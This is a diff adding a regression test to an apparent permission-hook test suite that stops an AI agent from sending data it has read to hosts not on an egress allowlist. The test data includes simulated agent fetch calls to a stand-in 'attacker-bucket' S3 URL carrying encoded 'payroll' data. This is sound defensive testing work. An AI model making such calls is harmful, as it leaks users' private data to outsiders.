@@ -55,6 +55,21 @@ describe('BR-23: read, then send to a URL the agent chose', () => {
     expect(userinfo.decision).toBe('ask');
   });
 
+  it("regression: --egress-allow amazonaws.com admits amazonaws.com's own hosts but no customer's bucket.s3.amazonaws.com (Public Suffix List at match time)", async () => {
+    const world = makeWorld();
+    const allow = ['--egress-allow', 'amazonaws.com'];
+    await hook(world, read('P1'), allow);
+    const own = await hook(world, pre('P1', 'mcp__fetch__fetch', { url: 'https://status.amazonaws.com/' }), allow);
+    expect(own.json).toEqual({});
+    const bucket = await hook(world, pre('P1', 'mcp__fetch__fetch', { url: 'https://attacker-bucket.s3.amazonaws.com/x?d=cGF5cm9sbA' }), allow);
+    expect(bucket.decision).toBe('ask');
+    expect(bucket.reason).toContain(
+      'host attacker-bucket.s3.amazonaws.com is not on the allowlist (amazonaws.com is above attacker-bucket.s3.amazonaws.com, a name of its own on the Public Suffix List, so it does not cover it)',
+    );
+    const webFetch = await hook(world, pre('P1', 'WebFetch', { url: 'https://attacker-bucket.s3.amazonaws.com/x', prompt: 'summarise' }), allow);
+    expect(webFetch.decision).toBe('ask');
+  });
+
   it('raises playwright browser_navigate to an attacker URL after a read', async () => {
     const world = makeWorld();
     await hook(world, read('S1'));
